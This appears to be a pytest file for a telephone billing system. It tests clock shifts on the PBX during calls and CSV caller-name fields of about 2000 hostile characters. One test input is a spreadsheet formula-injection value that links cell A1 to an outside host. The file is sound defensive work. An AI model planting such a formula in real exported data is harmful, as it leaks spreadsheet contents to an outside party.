"""The PBX's clock is set during calls, and caller's names are hostile: no charge goes astray."""

import csv
import io
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal

import pytest

from longlines.billing import families, tries
from longlines.billing.calls import fold
from longlines.billing.events import CallEvent
from longlines.billing.stretches import read
from tests.unit.billing.test_billing_moved import CASES, captured
from tests.unit.store import spoolfile

HOUR = timedelta(hours=1)
TELLING = Decimal("0.01")
"""Of two channels that leave a bridge together, one is told of some milliseconds later."""


def stepped(events: list[CallEvent], at: int, step: timedelta) -> list[CallEvent]:
    """The events as a PBX tells them whose clock is set by `step` before the event number `at`."""
    return [e if i < at else e._replace(at=e.at + step) for i, e in enumerate(events)]


@pytest.mark.parametrize("name", CASES)
@pytest.mark.parametrize("step", [HOUR, -HOUR], ids=["forward", "back"])
def test_no_time_is_negative_whenever_the_clock_is_set(name: str, step: timedelta) -> None:
    events = captured(name)
    whole = {call.id: call for call in map(fold, families.part(events).values())}
    for at in range(1, len(events)):
        for some in families.part(stepped(events, at, step)).values():
            call = fold(some)
            known = whole[call.id]
            assert call.complete
            assert call.ended_at
            assert call.ended_at >= call.started_at
            most = Decimal(3600) if step > timedelta(0) else Decimal(0)
            mine = [call.talk_seconds, *(each.talk_seconds for each in call.further)]
            theirs = [known.talk_seconds, *(each.talk_seconds for each in known.further)]
            assert all(seconds >= 0 for seconds in mine)
            assert max(mine) <= max(theirs) + most + TELLING
            assert all(each.seconds >= 0 for each in tries.fold(some))


def test_a_clock_that_was_set_back_costs_no_call_its_beginning() -> None:
    events = captured("blind_by_called")
    for at in range(1, len(events)):
        (some,) = families.part(stepped(events, at, -HOUR)).values()
        call = fold(some)
        assert (call.started_at, call.from_) == (events[0].at, "+12025550101")
        assert fold(some[::-1]) == call


NASTY: dict[str, Callable[[], str]] = {
    "quotes": lambda: '"' * 2000,
    "commas": lambda: ',"a","b",' * 220,
    "line-feeds": lambda: "x\ny\r\n" * 400,
    "formula": lambda: '=HYPERLINK("http://example.com/?"&A1,"see")' + "A" * 1957,
    "a-record": lambda: '"CHAN_START","1795300000.000000",' * 60,
    "half-a-record": lambda: '"HANGUP","1795300000.000000","' + "z" * 1970,
    "odd": lambda: "".join(map(chr, (0x202E, 0xFEFF, 0x85, 0x2028, 0x1F4DE))) * 400,
}


def _named(name: str) -> Iterator[bytes]:
    for raw in spoolfile.call_records(3):
        row = next(csv.reader(io.StringIO(raw.decode(), newline="")))
        row[2] = name
        yield (",".join('"' + cell.replace('"', '""') + '"' for cell in row) + "\n").encode()


@pytest.mark.parametrize("kind", NASTY)
def test_a_caller_with_a_hostile_name_of_2000_characters(kind: str) -> None:
    name = NASTY[kind]()
    assert len(name) >= 1980
    told = read(b"".join(_named(name)), 1, 0)
    assert not told.rejects
    assert {event.caller_name for event in told.events} == {name}
    call = fold(told.events)
    assert (call.outcome, call.talk_seconds) == ("answered", Decimal("60.125"))
    assert call.started_at == datetime.fromtimestamp(spoolfile.START, UTC)
